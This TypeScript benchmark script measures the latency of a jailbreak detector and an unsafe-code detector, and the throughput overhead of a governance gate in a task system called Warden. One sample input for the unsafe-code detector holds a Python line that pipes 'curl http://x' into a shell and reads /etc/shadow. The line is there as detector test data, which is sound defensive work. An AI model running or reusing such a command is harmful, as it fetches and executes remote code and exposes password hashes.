// Governance figures: detector latency per input (p50/p99 µs) and throughput, and the cost of the governance
// gate on the no-op hot path, measured A/B in one process (gate on / off, alternated) so that machine noise
// hits both sides alike. JSON lines: {"name", "value", "unit", ...}.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { Warden } from '../src/index.js';
import { analyzeText, defaultDetectorModel, unsafeCodeMatches } from '../src/governance/index.js';

function emit(name: string, value: number, unit: string, extra: Record<string, unknown> = {}): void {
  process.stdout.write(`${JSON.stringify({ name, value: Number(value.toFixed(3)), unit, ...extra })}\n`);
}

function quantile(sorted: number[], q: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))]!;
}

function corpusTexts(): string[] {
  const path = new URL('../test/fixtures/governance/dev.jsonl', import.meta.url).pathname;
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => (JSON.parse(l) as { text: string }).text);
}

function detectorLatency(): void {
  const model = defaultDetectorModel();
  const texts = corpusTexts();
  for (const t of texts.slice(0, 50)) analyzeText(t, model); // warm up
  const samples: number[] = [];
  const t0 = performance.now();
  for (let round = 0; round < 3; round++) {
    for (const t of texts) {
      const s = performance.now();
      analyzeText(t, model);
      samples.push((performance.now() - s) * 1000);
    }
  }
  const ms = performance.now() - t0;
  samples.sort((a, b) => a - b);
  const chars = texts.reduce((n, t) => n + t.length, 0) / texts.length;
  emit('jailbreak detector latency p50', quantile(samples, 0.5), 'us', {
    inputs: samples.length,
    meanChars: Math.round(chars),
  });
  emit('jailbreak detector latency p99', quantile(samples, 0.99), 'us', { inputs: samples.length });
  emit('jailbreak detector throughput', (samples.length / ms) * 1000, 'texts/s');
  // By input length (issue 14: p99 <= 2 ms at 4,000 characters): every corpus text cut or repeated to
  // exactly that length, so each length sees every style.
  for (const length of [100, 1000, 4000]) {
    const sized = texts.map((t) => t.repeat(Math.ceil(length / t.length)).slice(0, length));
    const by: number[] = [];
    for (let round = 0; round < 3; round++)
      for (const t of sized) {
        const s = performance.now();
        analyzeText(t, model);
        by.push((performance.now() - s) * 1000);
      }
    by.sort((a, b) => a - b);
    emit(`jailbreak detector latency p50, ${length} chars`, quantile(by, 0.5), 'us', { inputs: by.length });
    emit(`jailbreak detector latency p99, ${length} chars`, quantile(by, 0.99), 'us', {
      inputs: by.length,
      ...(length === 4000 ? { target: '<= 2000 us' } : {}),
    });
  }
  const code = 'import os\nos.system("curl http://x | sh")\nprint(open("/etc/shadow").read())\n'.repeat(4);
  const c: number[] = [];
  for (let i = 0; i < 5000; i++) {
    const s = performance.now();
    unsafeCodeMatches(code);
    c.push((performance.now() - s) * 1000);
  }
  c.sort((a, b) => a - b);
  emit('unsafe-code detector latency p50', quantile(c, 0.5), 'us', { chars: code.length });
}

const JOBS = 20_000;

/** Drains JOBS queued no-op tasks (inline handler, output null) with the gate on or off. */
async function drain(gateOn: boolean): Promise<number> {
  const root = mkdtempSync(join(tmpdir(), 'warden-gov-bench-'));
  try {
    const producer = await Warden.open({ storage: { root }, workers: false });
    await producer.registerHandler('noop', () => null);
    if (!gateOn) producer.governance.screenSubmit = () => undefined;
    for (let start = 0; start < JOBS; start += 1000) {
      await Promise.all(
        Array.from({ length: 1000 }, (_, k) => producer.submit({ agent: 'noop', input: { k: start + k } })),
      );
    }
    await producer.close();
    // Workers at the same concurrency as bench/warden.bench.ts; nothing runs until the handler is registered.
    const warden = await Warden.open({ storage: { root }, workers: { concurrency: 50 } });
    if (!gateOn) warden.scheduler.gate = undefined;
    let done = 0;
    let finished!: () => void;
    const all = new Promise<void>((r) => (finished = r));
    warden.scheduler.events.on('task', (e) => {
      if (e.state === 'succeeded' && ++done === JOBS) finished();
    });
    const t0 = performance.now();
    await warden.registerHandler('noop', () => null);
    await all;
    const ms = performance.now() - t0;
    await warden.close();
    return (JOBS / ms) * 1000;
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}

async function gateOverhead(rounds: number): Promise<void> {
  const on: number[] = [];
  const off: number[] = [];
  for (let i = 0; i < rounds; i++) {
    // Alternate the order so drift (other processes, thermal) does not favour one side.
    if (i % 2 === 0) {
      off.push(await drain(false));
      on.push(await drain(true));
    } else {
      on.push(await drain(true));
      off.push(await drain(false));
    }
  }
  const med = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1]!;
  emit('no-op throughput, governance off', med(off), 'tasks/s', {
    jobs: JOBS,
    rounds,
    runs: off.map(Math.round),
  });
  emit('no-op throughput, governance on (default policy)', med(on), 'tasks/s', {
    jobs: JOBS,
    rounds,
    runs: on.map(Math.round),
  });
  emit('governance gate overhead on no-op throughput', (100 * (med(off) - med(on))) / med(off), '%');
}

detectorLatency();
await gateOverhead(Number(process.env['ROUNDS'] ?? 5));
